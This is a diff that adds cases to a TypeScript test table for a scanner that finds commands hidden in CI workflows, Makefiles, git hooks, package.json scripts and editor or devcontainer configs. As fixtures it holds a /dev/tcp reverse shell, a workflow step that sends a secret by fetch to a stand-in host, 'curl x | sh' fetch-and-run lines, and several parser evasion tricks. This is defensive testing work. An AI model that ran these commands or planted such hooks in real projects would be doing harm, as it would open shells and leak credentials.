@@ -73,6 +73,22 @@ const ROWS: Row[] = [
   { name: 'launchd with an XML comment decoy', kind: 'launchd', path: '/home/dev/Library/LaunchAgents/x.plist', text: `<plist><dict><!-- <key>Program</key><string>/bin/true</string> --><key>Program</key><string>/tmp/evil</string></dict></plist>`, has: ['/tmp/evil'], not: ['/bin/true'] },
   { name: 'git hook with a python shebang', kind: 'git-hook', path: `${PROJECT}/.git/hooks/pre-commit`, text: `#!/usr/bin/env -S python3 -u\nimport os; os.system("id")\n`, interpreter: 'python', not: ['~os.system'] },
   { name: 'git hook through env -S bash', kind: 'git-hook', path: `${PROJECT}/.git/hooks/pre-push`, text: `#!/usr/bin/env -S bash -e\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n`, has: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'] },
+  // ---- found while attacking the extractors
+  { name: 'multi-document YAML: the second document is read', kind: 'ci', path: WF, text: `on: push\n---\njobs:\n  b:\n    steps:\n      - run: ${EVIL}\n`, has: [EVIL] },
+  { name: '!!binary run value', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: !!binary ${Buffer.from(EVIL).toString('base64')}\n`, has: [EVIL] },
+  { name: 'explicit key ? run', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - ? run\n        : ${EVIL}\n`, has: [EVIL] },
+  { name: 'flow mapping as a value of another key', kind: 'ci', path: WF, text: `jobs:\n\tb: {run: "${EVIL}"}\n`, has: [EVIL] },
+  { name: 'github-script sending a secret with fetch', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: await fetch('https://e.example/?' + '\${{ secrets.K }}')\n`, signals: ['secrets-to-network'] },
+  { name: 'python shell step marked', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - shell: python {0}\n        run: import os; os.system('id')\n`, has: ["import os; os.system('id')"] },
+  { name: 'Makefile SHELL set to a program', kind: 'makefile', path: `${PROJECT}/Makefile`, text: `SHELL := /tmp/.x/sh\nall:\n\techo hi\n`, has: ["/tmp/.x/sh -c 'recipe'", 'echo hi'] },
+  { name: 'Makefile SHELL = /bin/bash is ordinary', kind: 'makefile', path: `${PROJECT}/Makefile`, text: `SHELL := /bin/bash\nall:\n\techo hi\n`, has: ['echo hi'], not: ["~'recipe'"] },
+  { name: 'Makefile .RECIPEPREFIX', kind: 'makefile', path: `${PROJECT}/Makefile`, text: `.RECIPEPREFIX = >\nall:\n>${EVIL}\n`, has: [EVIL] },
+  { name: 'Makefile exponential variables stay bounded', kind: 'makefile', path: `${PROJECT}/Makefile`, text: Array.from({ length: 12 }, (_, i) => `V${i} = $(V${i + 1})$(V${i + 1})$(V${i + 1})$(V${i + 1})$(V${i + 1})$(V${i + 1})`).join('\n') + `\nall:\n\techo $(V0)\n\t${EVIL}\n`, has: [EVIL] },
+  { name: 'Jenkins sh with a variable: a placeholder', kind: 'ci', path: `${PROJECT}/Jenkinsfile`, text: `def c = "curl x | sh"\nsh c\n`, has: ['$C'] },
+  { name: 'VS Code npm task on folder open', kind: 'editor-task', path: `${PROJECT}/.vscode/tasks.json`, text: `{"tasks": [{"type": "npm", "script": "postinstall", "runOptions": {"runOn": "folderOpen"}}]}`, has: ['npm run postinstall'] },
+  { name: 'shebang that runs a -c script', kind: 'git-hook', path: `${PROJECT}/.git/hooks/post-checkout`, text: `#!/usr/bin/env -S bash -c 'curl x | sh'\necho hi\n`, has: ["/usr/bin/env -S bash -c 'curl x | sh'", 'echo hi'] },
+  { name: 'package.json key spelled with a JSON escape', kind: 'package-scripts', path: `${PROJECT}/package.json`, text: `{"scripts": {"post\\u0069nstall": "${EVIL}"}}`, has: [EVIL] },
+  { name: 'devcontainer with block comments and a trailing comma', kind: 'devcontainer', path: `${PROJECT}/.devcontainer/devcontainer.json`, text: `{ /* x */ "postStartCommand": "${EVIL}", }`, has: [EVIL] },
 ];
 
 for (const r of ROWS) {
